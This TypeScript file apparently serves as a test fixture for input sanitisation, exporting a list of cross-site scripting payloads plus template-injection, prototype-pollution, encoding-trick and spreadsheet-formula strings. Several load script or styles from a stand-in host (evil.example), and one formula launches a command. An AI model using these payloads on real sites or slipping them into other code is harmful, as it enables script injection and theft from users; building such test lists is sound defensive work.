/** What people have put in text fields to make a browser run something. Each would call `pwned`, put up a dialog or break the policy. */
const RUN = 'pwned()';

/** Not all that can run begins with an angle bracket. */
export const SCRIPT_ADDRESS = `javascript:${RUN}`;

export const SCRIPT_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`, `<scr<script>ipt>${RUN}</script>`, `<script src=//evil.example/x></script>`, `<script src=data:,${RUN}></script>`, `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `<img src=x onerror=&#112;wned()>`, `<img/src/onerror=${RUN}>`, `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a href=javascript:${RUN}>x`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<math><a xlink:href=javascript:${RUN}>x`, `<body onload=${RUN}>`, `<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<script>${RUN}</script>">`, `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`, `<base href=//evil.example/>`, `<form action=javascript:${RUN}><button>`, `<input autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`, `<audio src onerror=${RUN}>`, `<marquee onstart=${RUN}>`, `<style>@import'//evil.example'</style>`, `<style>*{background:url(//evil.example)}`,
  `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<template><script>${RUN}</script>`, `<noscript><p title="</noscript><img src onerror=${RUN}>">`,
  SCRIPT_ADDRESS, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `//evil.example/x`,
  `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `{name, select, other {${RUN}}}`, `<0>${RUN}</0>`, `#{${RUN}}`, `';${RUN};'`, `";${RUN};//`, `\`;${RUN};`,
  `__proto__`, `constructor`, `{"__proto__":{"pwned":1}}`, `$&$1$\`$'`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}`, `\\u003cscript\\u003e${RUN}`,
  `\u202e<script>${RUN}</script>`, `a\u0000<b>${RUN}`, `\ud800 alone`, `\u2066\u2067\u2068 open`, `=cmd|' /C calc'!A0`, `🧕🏽<i onclick=${RUN}>`,
];
